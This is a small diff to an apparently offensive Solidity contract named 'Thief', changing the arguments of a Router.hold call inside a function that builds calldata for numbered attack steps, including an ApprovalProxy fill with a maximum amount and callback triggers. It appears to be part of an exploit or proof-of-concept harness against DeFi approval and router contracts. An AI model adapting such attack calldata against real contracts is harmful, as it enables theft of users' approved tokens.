@@ -74,7 +74,7 @@ contract Thief {
             ApprovalProxy.Fill memory fill = ApprovalProxy.Fill(identity, bytes32(attacks), type(uint256).max);
             return (address(proxy), abi.encodeCall(ApprovalProxy.fill, (fill, none, nothing, takes, me, me)));
         }
-        if (kind == 3) return (address(router), abi.encodeCall(Router.hold, (me)));
+        if (kind == 3) return (address(router), abi.encodeCall(Router.hold, (me, me)));
         if (kind == 4) return (address(router), takes[0].callData);
         if (kind == 5) return (address(router), takes[1].callData);
         if (kind == 6) return (address(router), abi.encodeWithSignature("cb(int256,int256,bytes)", 1, 1, ""));
